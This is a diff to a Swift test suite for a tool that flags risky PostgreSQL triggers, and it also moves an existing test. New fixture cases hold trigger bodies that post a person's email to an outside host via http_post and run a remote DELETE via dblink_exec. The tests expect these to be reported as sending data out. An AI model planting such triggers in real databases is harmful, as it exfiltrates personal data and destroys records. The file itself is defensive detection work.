@@ -46,6 +46,18 @@ struct PostgresNotesTests {
       sql: trigger("EXECUTE format('SELECT %L', OLD.email);"),
       says: "Trigger \"t\" on \"person\" runs statements it puts together itself.", undo: "DROP TRIGGER t ON person"),
     Case(
+      sql: trigger("PERFORM dblink_exec('host=elsewhere', 'DELETE FROM person');"),
+      says: "Trigger \"t\" on \"person\" sends something out of the database (dblink_exec).",
+      undo: "DROP TRIGGER t ON person"),
+    Case(
+      sql: trigger("PERFORM http_post('https://elsewhere.example', OLD.email);"),
+      says: "Trigger \"t\" on \"person\" sends something out of the database (http_post).",
+      undo: "DROP TRIGGER t ON person"),
+    Case(
+      sql: "CREATE TRIGGER t AFTER DELETE ON person FOR EACH ROW EXECUTE FUNCTION tsvector_update_trigger();",
+      says: "Trigger \"t\" on \"person\" runs code in internal that cannot be read here.",
+      undo: "DROP TRIGGER t ON person"),
+    Case(
       sql: "CREATE FUNCTION g(t text) RETURNS void LANGUAGE plpgsql AS 'BEGIN NOTIFY gone; END';"
         + trigger("PERFORM g(OLD.email);"), says: "Trigger \"t\" on \"person\" notifies listeners.",
       undo: "DROP TRIGGER t ON person"),
@@ -88,18 +100,6 @@ struct PostgresNotesTests {
     #expect(try await notes(world, datasets).isEmpty)
   }
 
-  /// Of registered tables too, less what they follow or find people by, and never a table's own key.
-  @Test func columnsLikeAReferenceAreNamedInRegisteredTablesToo() async throws {
-    let world = try await PostgresWorld.make(
-      """
-      CREATE TABLE person (person_id int PRIMARY KEY, email text);
-      CREATE TABLE visit (person_id int, number int); CREATE TABLE card (number int PRIMARY KEY, person_id int);
-      INSERT INTO person VALUES (1, 'ada@example.org');
-      """)
-    let person = DatasetRecord.sqlite("person", find: [("email", "email")], suffices: ["email"])
-    func said(_ column: String) async throws -> [String] {
-      try await notes(
-        world,
   /// A function that is called, and one that puts the statement together; of jobs those of this database.
   @Test func whoRefreshesAMaterialisedViewIsNamed() async throws {
     let world = try await PostgresWorld.make(
@@ -140,6 +140,18 @@ struct PostgresNotesTests {
     #expect(try await notes(world)[0] == said("public.mails", nobody + hidden))
   }
 
+  /// Of registered tables too, less what they follow or find people by, and never a table's own key.
+  @Test func columnsLikeAReferenceAreNamedInRegisteredTablesToo() async throws {
+    let world = try await PostgresWorld.make(
+      """
+      CREATE TABLE person (person_id int PRIMARY KEY, email text);
+      CREATE TABLE visit (person_id int, number int); CREATE TABLE card (number int PRIMARY KEY, person_id int);
+      INSERT INTO person VALUES (1, 'ada@example.org');
+      """)
+    let person = DatasetRecord.sqlite("person", find: [("email", "email")], suffices: ["email"])
+    func said(_ column: String) async throws -> [String] {
+      try await notes(
+        world,
         [
           person, .sqlite("visit", belongsTo: [("person", [(column, "person_id")])]),
           .sqlite("card", find: [("customer-no", "person_id")], suffices: ["customer-no"]),
